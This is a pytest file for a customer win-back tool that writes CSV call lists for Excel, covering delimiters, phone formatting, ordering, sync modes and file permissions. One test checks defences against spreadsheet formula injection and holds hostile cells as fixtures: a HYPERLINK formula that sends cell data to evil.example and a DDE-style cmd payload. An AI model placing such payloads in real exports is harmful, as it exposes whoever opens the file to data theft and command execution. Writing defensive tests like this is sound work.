"""CSV call lists: per run `<UTC time>-add.csv` (people to call) and `-remove.csv` (people
no longer to call), or a `-full.csv` snapshot in replace mode; `;`-separated UTF-8 with a
BOM for Excel, phones in E.164 kept as text, no cell a spreadsheet would run as a
formula, owner-only files under the sync's out_dir (the dry-run folder in a dry run)."""

from __future__ import annotations

import csv
import io
import re
import stat
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from sync_support import (
    normalized_email,
    normalized_phone,
    person,
    table,
    write_members,
)
from winback.config import load_config
from winback.private_files import file_mode, folder_mode
from winback.sync.destinations.base import Member
from winback.sync.destinations.csv_file import CsvFile, CsvOptions
from winback.sync.engine import sync
from winback.sync.transport import DryRunTransport
from winback.warehouse import Warehouse

AUDIENCE = "lapsed_winback"
HEADER = ("member_key;customer_id;phone;email;first_name;lifecycle_stage;days_since_last_order;last_order_status;"
          "last_feedback_score;late_deliveries;main_category;last_reason;winback_offer;predicted_clv_365d;value_tier;offer;"
          "cart_value;amount_to_free_delivery;product_ids\r\n")
STAMPED = re.compile(r"\d{8}T\d{6}Z(_\d+)?-(add|remove|full)\.csv")


def run(tmp_path: Path, rows: list[dict], mode: str | None = None, options: dict | None = None,
        **sync_settings) -> tuple[dict, dict]:
    """One sync to a csv destination named `calls` (no base_url: it makes no HTTP call)."""
    target = {"mode": mode} if mode else {}
    document = {
        "warehouse": f"duckdb:///{tmp_path / 'w.duckdb'}",
        "sources": {"orders": {"kind": "file", "path": "orders/*.csv"}},
        "audiences": {AUDIENCE: {"where": {"lifecycle_stage": ["lapsed"]}, "channel": "call",
                                 "identifiers": ["phone", "email", "customer_id"]}},
        "sync": {"out_dir": str(tmp_path / "sync"), **sync_settings},
        "destinations": {"calls": {"kind": "csv", "options": options or {}, "audiences": {AUDIENCE: target}}},
    }
    (tmp_path / "winback.yaml").write_text(yaml.safe_dump(document, sort_keys=False))
    config = load_config(tmp_path / "winback.yaml")
    warehouse = Warehouse(config.warehouse_url)
    try:
        write_members(warehouse, AUDIENCE, "call", rows)
        [summary] = sync(config, warehouse=warehouse)
        return summary, {t: table(warehouse, t) for t in ("sync_state", "sync_row_errors") if warehouse.table_exists(t)}
    finally:
        warehouse.dispose()


def folder(tmp_path: Path) -> Path:
    return tmp_path / "sync" / "files" / f"{AUDIENCE}__calls"


def files(where: Path, kind: str) -> list[Path]:
    return sorted(p for p in where.glob(f"*-{kind}.csv"))


def rows_of(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))


def as_text(phone: str) -> str:
    """A phone as the call list writes it: E.164 behind the quote that keeps it text."""
    return "'" + phone


def test_call_list_for_excel_with_the_three_russian_phone_spellings(tmp_path):
    rows = [person(0, first_name="Анна", offer="СКИДКА10", cart_value=Decimal("1234.50"), product_ids="p1;p2",
                   winback_offer="discount"),
            person(1, first_name="Пётр"), person(2, email=None)]  # 8 (912) ..., +7 912 ..., 7912...
    summary, tables = run(tmp_path, rows)
    [written] = files(folder(tmp_path), "add")
    assert summary["status"] == "succeeded" and summary["accepted"] == 3 and summary["requests"] == 0
    assert STAMPED.fullmatch(written.name)
    assert written.read_bytes() == (
        "\ufeff" + HEADER
        + 'c0000000;c0000000;\'+79120000000;customer0@example.com;Анна;lapsed;;;;;;;discount;;high;СКИДКА10;1234,50;;'
          '"p1;p2"\r\n'
        + "c0000001;c0000001;'+79120000001;customer1@example.com;Пётр;lapsed;;;;;;;;;high;;;;\r\n"
        + "c0000002;c0000002;'+79120000002;;Name2;lapsed;;;;;;;;;high;;;;\r\n").encode("utf-8")
    assert len(tables["sync_state"]) == 3


def caller(n: int, clv: str | None, **overrides) -> dict:
    """A lapsed customer as a caller sees them; predicted CLV `clv` (None: no model)."""
    columns = {"days_since_last_order": 100 + n, "last_order_status": "delivered", "last_feedback_score": n,
               "late_deliveries": n % 2, "main_category": "toys", "last_reason": "price",
               "winback_offer": "discount", "predicted_clv_365d": None if clv is None else Decimal(clv)}
    return person(n, **{**columns, **overrides})


def test_call_lists_carry_what_a_caller_needs_most_valuable_first(tmp_path, monkeypatch):
    monkeypatch.setattr(CsvFile, "batch_size", 2)  # the order holds across units
    rows = [caller(0, "500.00"), caller(1, None), caller(2, "12000.50"), caller(3, "900.00"), caller(4, "900.00")]
    summary, _ = run(tmp_path, rows)
    [written] = files(folder(tmp_path), "add")
    read = rows_of(written)
    assert summary["accepted"] == 5
    # Highest CLV first; equal values by member_key; no prediction last.
    assert [r["member_key"] for r in read] == ["c0000002", "c0000003", "c0000004", "c0000000", "c0000001"]
    assert read[0] == {
        "member_key": "c0000002", "customer_id": "c0000002", "phone": as_text(normalized_phone(2)),
        "email": normalized_email(2), "first_name": "Name2", "lifecycle_stage": "lapsed",
        "days_since_last_order": "102", "last_order_status": "delivered", "last_feedback_score": "2",
        "late_deliveries": "0", "main_category": "toys", "last_reason": "price", "winback_offer": "discount",
        "predicted_clv_365d": "12000,50", "value_tier": "high", "offer": "", "cart_value": "",
        "amount_to_free_delivery": "", "product_ids": ""}

    # Renamed and narrowed columns; a change in a column not written re-sends nobody.
    options = {"columns": {"first_name": "Имя", "days_since_last_order": "Дней без заказа",
                           "winback_offer": "Предложение"}}
    again = tmp_path / "again"
    again.mkdir()
    run(again, rows, options=options)
    first = files(folder(again), "add")[-1]
    assert first.read_text(encoding="utf-8-sig").splitlines()[0] == (
        "member_key;customer_id;phone;email;Имя;Дней без заказа;Предложение")
    assert rows_of(first)[0] == {"member_key": "c0000002", "customer_id": "c0000002",
                                 "phone": as_text(normalized_phone(2)), "email": normalized_email(2),
                                 "Имя": "Name2", "Дней без заказа": "102", "Предложение": "discount"}
    later, _ = run(again, [caller(0, "500.00", main_category="garden")] + rows[1:], options=options)
    assert (later["planned_adds"], later["planned_updates"]) == (0, 0)
    moved, _ = run(again, [caller(0, "500.00", days_since_last_order=130)] + rows[1:], options=options)
    assert (moved["planned_adds"], moved["planned_updates"]) == (0, 1)


def test_units_of_one_run_append_to_one_file(tmp_path, monkeypatch):
    monkeypatch.setattr(CsvFile, "batch_size", 2)  # five members: three add() calls
    summary, _ = run(tmp_path, [person(i) for i in range(5)])
    [written] = files(folder(tmp_path), "add")
    assert summary["accepted"] == 5 and summary["figures"]["rows_written"] == 5
    assert written.read_text(encoding="utf-8").count("member_key") == 1  # one header
    assert [r["phone"] for r in rows_of(written)] == [as_text(normalized_phone(i)) for i in range(5)]


def test_a_new_winback_offer_reaches_the_call_list_and_nobody_else_is_written_again(tmp_path):
    run(tmp_path, [person(i) for i in range(3)])
    second, _ = run(tmp_path, [person(0), person(1, winback_offer="quality_call"), person(2)])
    assert (second["planned_adds"], second["planned_updates"]) == (0, 1)
    latest = files(folder(tmp_path), "add")[-1]
    assert [(r["member_key"], r["winback_offer"]) for r in rows_of(latest)] == [("c0000001", "quality_call")]


def test_mirror_writes_who_to_call_and_who_no_longer(tmp_path):
    n = 1_200
    unusable = person(n + 1, member_key="unusable", email="not an address", phone="12-34", customer_id=None)
    holdout = person(n + 2, in_holdout=True)
    first, tables = run(tmp_path, [person(i) for i in range(n)] + [unusable, holdout])
    assert first["accepted"] == n and first["invalid"] == 1
    assert [e["member_key"] for e in tables["sync_row_errors"]] == ["unusable"]

    staying = [person(i) for i in range(n // 10, n)] + [person(i) for i in range(n, n + n // 20)]
    staying[0] = person(n // 10, phone="+7 999 000 00 00")  # a new number: old one out, new one in
    second, _ = run(tmp_path, staying)
    assert second["planned_adds"] == n // 20 and second["removed"] == n // 10 + 1
    adds, removes = files(folder(tmp_path), "add"), files(folder(tmp_path), "remove")
    assert len(adds) == 2 and len(removes) == 1
    assert {r["phone"] for r in rows_of(removes[0])} == {as_text(normalized_phone(i)) for i in range(n // 10 + 1)}
    assert rows_of(removes[0])[0].keys() == {"member_key", "customer_id", "phone", "email"}
    # Replaying the files run by run (removals, then additions) gives exactly the audience.
    called: dict[str, str] = {}
    for add in adds:
        for remove in [r for r in removes if r.name.split("-")[0] == add.name.split("-")[0]]:
            for row in rows_of(remove):
                called.pop(row["member_key"], None)
        called.update({row["member_key"]: row["phone"] for row in rows_of(add)})
    assert set(called.values()) == {as_text(normalized_phone(i)) for i in range(n // 10 + 1, n + n // 20)} | {
        "'+79990000000"}


def test_add_only_never_writes_removals(tmp_path):
    run(tmp_path, [person(i) for i in range(10)], mode="add_only")
    run(tmp_path, [person(i) for i in range(5, 12)], mode="add_only")
    assert files(folder(tmp_path), "remove") == [] and len(files(folder(tmp_path), "add")) == 2


def test_replace_writes_a_full_snapshot_per_run(tmp_path, monkeypatch):
    monkeypatch.setattr(CsvFile, "batch_size", 3)
    run(tmp_path, [person(i) for i in range(10)], mode="replace")
    summary, _ = run(tmp_path, [person(i) for i in range(4, 12)], mode="replace")
    snapshots = files(folder(tmp_path), "full")
    assert summary["status"] == "succeeded" and len(snapshots) == 2
    assert [r["email"] for r in rows_of(snapshots[-1])] == [normalized_email(i) for i in range(4, 12)]
    assert [p.name for p in folder(tmp_path).iterdir()] and not list(folder(tmp_path).glob("*.partial"))
    assert files(folder(tmp_path), "add") == files(folder(tmp_path), "remove") == []
    run(tmp_path, [person(i) for i in range(4, 12)], mode="replace")  # nothing changed: no new snapshot
    assert len(files(folder(tmp_path), "full")) == 2


def test_dry_run_writes_into_the_dry_run_folder_only(tmp_path):
    summary, tables = run(tmp_path, [person(i) for i in range(3)], dry_run=True)
    dry = tmp_path / "sync" / "dry-run" / f"{AUDIENCE}__calls"
    assert Path(summary["requests_dir"]) == dry
    [written] = files(dry, "add")
    assert len(rows_of(written)) == 3
    assert not folder(tmp_path).exists() and not tables.get("sync_state")


def test_excel_options_off(tmp_path):
    run(tmp_path, [person(0, cart_value=Decimal("9.5"), first_name="Ольга")],
        options={"excel_bom": False, "delimiter": ",", "decimal_comma": False})
    [written] = files(folder(tmp_path), "add")
    assert written.read_bytes() == (
        HEADER.replace(";", ",")
        + "c0000000,c0000000,'+79120000000,customer0@example.com,Ольга,lapsed,,,,,,,,,high,,9.50,,\r\n"
    ).encode("utf-8")


def test_two_runs_in_the_same_second_get_their_own_files(tmp_path):
    def destination() -> CsvFile:
        return CsvFile(name="calls", audience=AUDIENCE, options=CsvOptions(), target=CsvFile.Target(),
                       transport=DryRunTransport(tmp_path / "unused", []), secret=lambda name: "",
                       base_url="", out_dir=tmp_path / "out")

    member = Member("c1", {"phone": "+79120000001"}, {})
    destination().add([member])
    destination().add([member])
    assert len(files(tmp_path / "out", "add")) == 2


@pytest.mark.parametrize("bad", [{"delimiter": ";;"}, {"unknown": 1}, {"columns": {"colour": "Цвет"}},
                                 {"columns": {"first_name": "phone"}}])
def test_options_are_validated(tmp_path, bad):
    with pytest.raises(Exception, match="delimiter|unknown key|no such attribute colour|not member_key, customer_id, phone, email: phone"):
        run(tmp_path, [person(0)], options=bad)


def test_no_cell_runs_as_a_formula_and_quotes_inside_stay_escaped(tmp_path):
    """OWASP's rule: a cell starting with =, +, -, @, tab or CR gets a leading quote, so
    Excel shows the text instead of running it. Before the fix a first name of
    =HYPERLINK(...) reached the call list as it was, a live link in Excel."""
    link = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows = [person(0, first_name=link, offer="@SUM(1+1)*cmd|' /C calc'!A0", product_ids="-2+3",
                   lifecycle_stage="+lapsed", value_tier="\thigh", customer_id="=1+1"),
            person(1, first_name="Анна-Мария", offer="10% off = great", value_tier="\r\nhigh")]
    summary, _ = run(tmp_path, rows)
    [written] = files(folder(tmp_path), "add")
    first, second = rows_of(written)
    assert summary["accepted"] == 2
    assert first["first_name"] == "'" + link  # the csv module doubled its quotes on the way
    assert (first["offer"], first["product_ids"], first["lifecycle_stage"], first["value_tier"]) == (
        "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'+lapsed", "'\thigh")
    assert first["customer_id"] == "'=1+1" and first["phone"] == as_text(normalized_phone(0))
    assert (second["first_name"], second["offer"]) == ("Анна-Мария", "10% off = great")  # inner - and = stay
    assert second["value_tier"] == "'\r\nhigh"
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in written.read_text(encoding="utf-8-sig")
    starts = [cell[:1] for row in rows_of(written) for cell in row.values() if cell]
    assert not any(start in "=+-@\t\r" for start in starts)


def test_call_lists_are_readable_by_their_owner_only(tmp_path):
    """A call list holds names and phones: 0600 files in a 0700 folder (the defaults of
    `permissions:`), whatever the umask. Before the fix they were created 0644 in 0755."""
    run(tmp_path, [person(i) for i in range(3)])
    run(tmp_path, [person(i) for i in range(1, 3)])
    (tmp_path / "full").mkdir()
    run(tmp_path / "full", [person(i) for i in range(3)], mode="replace")
    written = files(folder(tmp_path), "add") + files(folder(tmp_path), "remove") + files(folder(tmp_path / "full"), "full")
    assert len(written) == 3
    assert {stat.S_IMODE(p.stat().st_mode) for p in written} == {file_mode()} == {0o600}
    for where in (folder(tmp_path), folder(tmp_path).parent, folder(tmp_path / "full")):
        assert stat.S_IMODE(where.stat().st_mode) == folder_mode() == 0o700
